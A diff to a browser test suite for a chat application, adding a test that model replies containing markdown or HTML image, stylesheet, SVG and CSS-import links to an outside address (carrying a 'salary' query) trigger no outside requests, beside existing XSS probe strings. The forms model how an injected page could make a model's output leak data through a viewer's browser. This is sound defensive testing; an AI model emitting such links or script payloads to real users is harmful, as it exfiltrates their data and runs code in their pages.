@@ -12,6 +12,7 @@ from playwright.async_api import Route, expect
 from router.domain.principals import DEFAULT_TENANT
 from router.domain.records import LogEntry
 from router.runtime.composition import Parts
+from tests.fakes.web_server import WebServer, json_reply
 from tests.page.house import LOST_CONNECTION, PHONE, Caller, Door, Served, Visitor
 
 
@@ -305,6 +306,38 @@ async def test_what_looks_like_markup_is_text_and_leads_nowhere(
     assert await gina.page.title() != "owned"
     await expect(gina.log).to_contain_text("<img src=x onerror=alert(1)>")
     await expect(gina.log).to_contain_text("<script>document.title='owned'</script>")
+
+
+FETCHING = [
+    "![a](ADDRESS)",
+    "![a][r]\n\n[r]: ADDRESS",
+    "<img src=ADDRESS><link rel=stylesheet href=ADDRESS><video src=ADDRESS>",
+    "```html\n<img src=ADDRESS>\n```",
+    "| a |\n| --- |\n| ![a](ADDRESS) |",
+    "<svg><image href='ADDRESS'/></svg> <style>@import 'ADDRESS'</style>",
+    "ADDRESS ADDRESS.png",
+]
+"""What a model says that obeys a page, so that whoever shows it asks a stranger's address."""
+
+
+@pytest.mark.slow
+async def test_nothing_that_a_model_says_is_asked_for(
+    door: Door, served: Served, parts: Parts
+) -> None:
+    gina, conversation = await at_a_conversation(door, served, parts)
+    async with WebServer(lambda _: json_reply({})) as stranger:
+        secret = f"{stranger.origin}/?q=salary"
+        asked: list[str] = []
+        gina.page.on("request", lambda request: asked.append(request.url))
+        for number, form in enumerate(FETCHING):
+            await told(parts, conversation, f"{form.replace('ADDRESS', secret)}\n\n第{number}条")
+            await gina.hears(f"第{number}条")
+        shown = await gina.page.request.get(served.origin)
+
+        assert stranger.requests == []
+        assert [url for url in asked if not url.startswith(served.origin)] == []
+        # Nor is the host of a link looked up before it is followed.
+        assert shown.headers["x-dns-prefetch-control"] == "off"
 
 
 ADDRESSES = {
